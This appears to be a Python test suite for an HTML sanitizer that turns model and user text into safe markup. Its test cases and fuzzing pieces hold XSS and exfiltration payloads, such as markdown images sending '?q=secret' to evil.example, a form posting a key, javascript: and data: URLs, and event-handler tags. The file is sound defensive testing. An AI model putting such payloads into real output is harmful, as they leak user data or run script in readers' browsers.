"""Whatever a model, a file or a person writes, the page shows text: no image, form, script or foreign link."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from coach.ui.safe import TAGS, Links, plain, render
from tests.paging import WARNINGS

pytestmark = WARNINGS  # what a page that was built before leaves behind may be swept up here
LINKS = Links(
    ["https://iapp.org/certify/aigp", "https://www.nist.gov/itl", "https://law.example/x?a=1"]
)
VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Collects what a browser would see, and complains about tags left open."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, f"</{tag}> closes nothing"

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.open
    return reader


def check(html: str) -> Reader:
    reader = read(html)
    assert "\n" not in html
    for tag, attributes in reader.seen:
        assert tag in TAGS
        allowed = {
            "a": {"href", "target", "rel"},
            "th": {"scope"},
            "ol": {"start"},
            "p": {"class"},  # a note, and nothing else
        }.get(tag, set())
        assert set(attributes) <= allowed
        assert attributes.get("class", "note") == "note"
        if tag == "a":
            assert LINKS.allows(attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer"
    return reader


PIECES = st.sampled_from(
    ["<", ">", '"', "'", "&", "![x](http://evil.example/?", ")", "](", "[", "]", "`", "**", "*", "_", "\n", "\n\n", "- ",
     "1. ", "| a | b |\n", "|---|---|\n", "```", "> ", "# ", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
     "https://iapp.org/certify/aigp", "[a](https://iapp.org/certify/aigp)", "&#60;script&#62;", "\u202e", "\x00", "[1]", "$$"]
)  # fmt: skip
HOSTILE = st.lists(PIECES | st.text(max_size=12), max_size=40).map("".join)


@given(HOSTILE)
@example("*<*")
def test_only_harmless_tags_and_known_links_come_out(text: str) -> None:
    check(render(text, LINKS))


@given(HOSTILE)
def test_every_prefix_of_a_stream_is_as_harmless_as_the_whole(text: str) -> None:
    for end in range(0, len(text), 7):
        check(render(text[:end], LINKS))


@given(st.text(max_size=300))
def test_a_persons_turn_is_shown_as_written(text: str) -> None:
    reader = check(plain(text))
    assert {t for t, _ in reader.seen} <= {"br"}


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        '<img src="https://evil.example/x.png">',
        "<form action=https://evil.example><input name=key><button>Send</button></form>",
        "[click](javascript:alert(1))",
        "[click](https://evil.example/login)",
        "[click](https://iapp.org@evil.example/)",
        "[click](https://iapp.org:8443/)",
        "[click](https://iapp.org.evil.example/)",
        "[click](https://iapp.org/?q=my+secret)",
        "[click](https://iapp.org\\@evil.example/)",
        "[click](//evil.example)",
        "[click](data:text/html,<script>alert(1)</script>)",
        "<a href='https://evil.example'>x</a>",
        "<svg onload=alert(1)>",
        "<!-- hidden -->",
        "<details open ontoggle=alert(1)>",
        "<style>@import url(https://evil.example)</style>",
        "[x]: https://evil.example\n\n[x]",
        "<https://evil.example>",
    ],
)
def test_an_attack_stays_text(attack: str) -> None:
    reader = check(render(attack, LINKS))
    assert not [t for t, _ in reader.seen if t in {"a", "img", "form", "button"}]


def test_links_of_the_knowledge_are_links() -> None:
    html = render(
        "See [the IAPP](https://iapp.org/certify/aigp) and [NIST](https://www.nist.gov/other).",
        LINKS,
    )
    assert html.count("<a ") == 2 and html.count("noreferrer") == 2


def test_the_forms_an_answer_uses() -> None:
    text = (
        "**Cost?** It is *high*. [1]\n\n- one\n  - inner\n- two\n\n1. a\n2. b\n\n"
        "| by | what |\n| --- | --- |\n| today | *act* |\n\n> said\n\n## Head\n\n```\nx < y\n```"
    )
    html = render(text, LINKS, lambda n: f"<button>{n}</button>")
    read(html)
    for part in (
        "<p><strong>Cost?</strong> It is <em>high</em>. <button>1</button></p>",
        "<ul><li>one<ul><li>inner</li></ul></li><li>two</li></ul>",
        "<ol><li>a</li><li>b</li></ol>",
        '<th scope="col">by</th>',
        "<td><em>act</em></td>",
        "<blockquote>said</blockquote>",
        "<h3>Head</h3>",
        "<pre><code>x &lt; y</code></pre>",
    ):
        assert part in html


@pytest.mark.parametrize("unit", ["**a ", "[", "`", "*x", "![](", "| a ", "- \n  ", "[1", "\n> "])
def test_a_long_hostile_text_takes_no_time(unit: str) -> None:
    start = time.perf_counter()
    render(unit * (200_000 // len(unit)), LINKS)
    assert time.perf_counter() - start < 5


def test_invisible_characters_are_gone() -> None:
    assert "\u200b" not in render("a\u200bb", LINKS)
    assert re.search("ab", render("a\u200bb", LINKS))


def test_a_line_said_aside_is_a_note_and_a_word_of_weight_is_not() -> None:
    assert render("*Figures move.*", LINKS) == '<p class="note"><em>Figures move.</em></p>'
    assert 'class="note"' not in render("*One* word [1].", LINKS)
